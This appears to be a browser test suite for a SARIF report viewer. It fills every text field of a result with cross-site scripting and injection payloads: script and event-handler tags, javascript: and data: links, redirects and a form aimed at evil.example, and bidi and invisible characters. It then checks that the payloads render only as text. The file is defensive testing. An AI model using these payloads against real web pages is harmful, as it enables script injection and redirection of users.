// The text of a result set is hostile: nothing of it becomes markup or script, leads anywhere but to the web, or deceives.
// Each payload stands in all text fields of one result and its rule; each field ends with a mark of its own, so that
// it is known to be seen as text.

import assert from "node:assert/strict";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { test } from "node:test";
import { close, numbers, open, until } from "./browser.mjs";
import { report, scratch } from "./reports.mjs";

const evil = "window.hacked=1";
const payloads = {
    script: `<script>${evil}</script>`,
    closingScript: `</script><script>${evil}</script>`,
    closingStyle: `</style></title></textarea></template></noscript><img src=x onerror=${evil}>`,
    image: `<img src=x onerror=${evil}>`,
    svg: `<svg onload=${evil}><animate onbegin=${evil} attributeName=x dur=1s>`,
    quotes: `"'\`><b onmouseover=${evil} style="position:fixed;inset:0">x`,
    iframe: `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`,
    form: `<form action="https://evil.example/"><input name=attributes><button>x</button></form>`,
    base: `<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/">`,
    style: `<style>@import "https://evil.example/x.css"; body { display: none }</style>`,
    comment: "--><!--<script>",
    cdata: "]]><![CDATA[",
    entity: "&lt;script&gt; &#60;b&#62; &amp;amp;",
    javascriptLink: `[x](javascript:${evil})`,
    codedLink: `[x](java&#x73;cript:${evil}) [y](JAVASCRIPT:${evil}) [z](\\tjavascript:${evil})`,
    dataLink: "[x](data:text/html,<script>parent.hacked=1</script>) [y](vbscript:x) [z](file:///etc/passwd)",
    markdownImage: "![x](https://evil.example/x.png) ![y](data:image/svg+xml,<svg/onload=1>)",
    autolink: "<javascript:alert(1)> <https://example.org/ok>",
    reference: "[a]\n\n[a]: javascript:window.hacked=1 \"t\"",
    htmlBlock: `<div onclick=${evil}>\n\n**x**\n\n</div>`,
    table: `|a|\n|-|\n|<img src=x onerror=${evil}>|`,
    math: `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${evil}>">`,
    template: `<template><script>${evil}</script></template>{{constructor.constructor('${evil}')()}}\${${evil}}`,
    bidi: "safe\u202egnissim\u202c \u2066x\u2069 \u200f\u061c",
    invisible: "a\u200bb\u200cc\u2060d\ufeffe\u00adf\u{e0041}",
    controls: "a\u0001b\u001b[31mc\u007f\u0085",
    surrogates: "a\ud800b\udfffc",
    prototype: "__proto__",
    newlines: "a\r\nb\rc\u2028d",
};

/** A run with one result, with the payload in each field. */
function hostileRun(payload, name) {
    const marks = [];
    const field = (mark) => {
        marks.push(`${name}-${mark}`);
        return `${payload} ${name}-${mark}`;
    };
    const message = (mark) => ({ text: field(`${mark}-text`), markdown: field(`${mark}-markdown`) });
    const place = (mark) => ({
        id: 1,
        physicalLocation: {
            artifactLocation: { uri: field(`${mark}-uri`), uriBaseId: field(`${mark}-base`) },
            region: { startLine: 2, startColumn: 1, endColumn: 4, snippet: { text: field(`${mark}-snippet`) } },
            contextRegion: { startLine: 1, snippet: { text: `x\n${field(`${mark}-context`)}\n` } },
        },
        logicalLocations: [{ fullyQualifiedName: field(`${mark}-function`), kind: field(`${mark}-kind`) }],
        message: message(mark),
    });
    const step = (mark) => ({ location: place(mark), kinds: [field(`${mark}-kinds`)], state: { [field(`${mark}-state`)]: { text: field(`${mark}-value`) } } });
    const result = {
        ruleId: `rule ${payload} ${name}`,
        ruleIndex: 0,
        message: message("message"),
        locations: [place("location")],
        relatedLocations: [place("related")],
        codeFlows: [{ message: message("flow"), threadFlows: [{ id: field("thread"), message: message("thread"), locations: [step("step0"), step("step1")] }] },
            { threadFlows: [{ locations: [step("step2")] }] }],
        stacks: [{ message: message("stack"), frames: [{ location: place("frame"), module: field("module") }] }],
        fixes: [{ description: message("fix"), artifactChanges: [{ artifactLocation: { uri: field("fix-uri") }, replacements: [{ deletedRegion: { startLine: 1 }, insertedContent: { text: field("inserted") } }] }] }],
        suppressions: [{ kind: "external", justification: field("justification") }],
        fingerprints: { [field("fingerprint")]: field("fingerprint-value") },
        partialFingerprints: { [field("partial")]: field("partial-value") },
        taxa: [{ id: field("taxon"), toolComponent: { name: field("taxonomy") } }],
        workItemUris: [field("work-item")],
        hostedViewerUri: field("viewer"),
        properties: { [field("bag")]: field("bag-value"), tags: [field("tag")], payload: { [field("payload")]: { type: { arm: field("arm") }, range: { arm: "Int_Full_Range", args: { lower: payload, upper: null } }, first_string: field("value-name") } } },
    };
    const rule = {
        id: `rule ${payload} ${name}`,
        name: `${payload} rulename`,
        shortDescription: { text: field("short") },
        fullDescription: message("full"),
        help: { text: "x", markdown: field("help") },
        helpUri: payload,
        properties: { tags: [field("rule-tag")], precision: field("precision"), "security-severity": field("severity") },
    };
    const driver = { name: `${payload} tool`, version: `${payload} version`, rules: [rule] };
    const run = { tool: { driver }, automationDetails: { id: `${payload} run` }, invocations: [{ executionSuccessful: true, commandLine: `${payload} command` }], results: [result] };
    return { run, marks };
}

const runs = Object.entries(payloads).map(([name, payload]) => ({ name, ...hostileRun(payload, name) }));
const log = join(scratch, "hostile.sarif");
// As UTF-8 there are no unpaired surrogates: they stand in the log as the bytes of UTF-8 that U+FFFD has.
writeFileSync(log, JSON.stringify({ version: "2.1.0", runs: runs.map(({ run }) => run) }).replace(/\\ud[89a-f][0-9a-f]{2}/g, "\ufffd"));
const hostile = report("hostile", [log], "--title", Object.values(payloads).join(" ").replaceAll("\u0000", "").replace(/\p{Cs}/gu, "\ufffd"));

const found = await numbers(hostile, Object.fromEntries(runs.map(({ name }) => [name, `q=%20${name}-message-text`])));

/** Whatever the page must not have; the names of classes and the like are the page's own. */
function intruders() {
    const wrong = [];
    const allowed = /^(https?:\/\/|mailto:|#)|^licences\.txt$/;
    for (const element of document.querySelectorAll("body *")) {
        if (/^(script|iframe|object|embed|img|style|base|meta|link|math|template|video|audio|frame)$/i.test(element.localName) && !/report\.js$/.test(element.src ?? "")) wrong.push(element.outerHTML.slice(0, 200));
        for (const { name, value } of element.attributes) {
            if (/^on|^srcdoc$|^action$|^formaction$|^xlink/.test(name)) wrong.push(`${name}=${value}`);
            if (/^(href|src)$/.test(name) && element.localName !== "script" && !allowed.test(value)) wrong.push(`${name}=${value}`);
            if (name === "href" && /^https?:/.test(value) && (element.target !== "_blank" || !/noopener/.test(element.rel))) wrong.push(`open ${value}`);
        }
    }
    if (/[\u202a-\u202e\u2066-\u2069\u200b\u200e\u200f\u061c\u2060\ufeff\u0001\u001b]/.test(document.body.textContent + document.title)) wrong.push("a hidden character");
    if (window.hacked) wrong.push("a script ran");
    return wrong;
}

test("the overview and the list show hostile texts as texts", async () => {
    for (const hash of ["", "#view=findings", "#view=findings&group=rule", "#view=findings&group=file"]) {
        const page = await open(hostile, { hash });
        await until(page, () => document.querySelector(".overview, .list-row") !== null);
        for (const more = page.locator('button:text-matches("Show (all|first)")'); (await more.count()) > 0; ) await more.first().click();
        assert.deepEqual(await page.evaluate(intruders), []);
        await close(page);
    }
});

test("hostile filters in the address and in the box are texts", async () => {
    const page = await open(hostile, { hash: "#view=findings" });
    for (const [name, payload] of Object.entries(payloads)) {
        const text = encodeURIComponent(payload.replace(/\p{Cs}/gu, "\ufffd"));
        await page.evaluate((hash) => (location.hash = hash), `#view=findings&rule=${text}&q=${text}`);
        await until(page, () => document.querySelectorAll(".chip").length === 2);
        assert.deepEqual(await page.evaluate(intruders), [], name);
        await page.fill("#filter", payload.replace(/[\r\n]/g, " ").replace(/\p{Cs}/gu, "\ufffd"));
        assert.deepEqual(await page.evaluate(intruders), [], name);
        await page.evaluate(() => (location.hash = "#view=findings"));
        await until(page, () => document.querySelectorAll(".chip").length === 0);
    }
    await close(page);
});

/** Unfolds all of a page. */
async function unfold() {
    for (let level = 0; level < 20; ++level) {
        const folded = [...document.querySelectorAll(".finding details:not([open])")];
        if (folded.length === 0) return;
        for (const details of folded) details.open = true;
        await new Promise((resolve) => setTimeout(resolve, 10));
    }
}


for (const { name, marks } of runs) {
    test(`a finding with ${name} in all fields shows them as texts`, async () => {
        const page = await open(hostile, { hash: `#finding=${found[name]}`, ready: ".source-title" });
        await until(page, () => document.querySelector(".fixes") !== null);
        await page.evaluate(unfold);
        assert.deepEqual(await page.evaluate(intruders), []);
        const shown = await page.locator(".finding").evaluate((element) => element.textContent + [...element.querySelectorAll("[title]")].map((one) => one.title).join(" "));
        const unseen = marks.filter((mark) => !shown.includes(mark) && !mark.endsWith("-base"));
        assert.deepEqual(unseen, []);
        for (const step of [0, 1]) {
            await page.keyboard.press("n");
            await page.waitForSelector(`.step[aria-current="step"]:has(.badge-number:text-is("${step + 1}"))`);
        }
        await page.selectOption(".steps select", "1");
        for (const button of await page.locator(".locations button").all()) await button.click();
        assert.deepEqual(await page.evaluate(intruders), []);
        await close(page);
    });
}
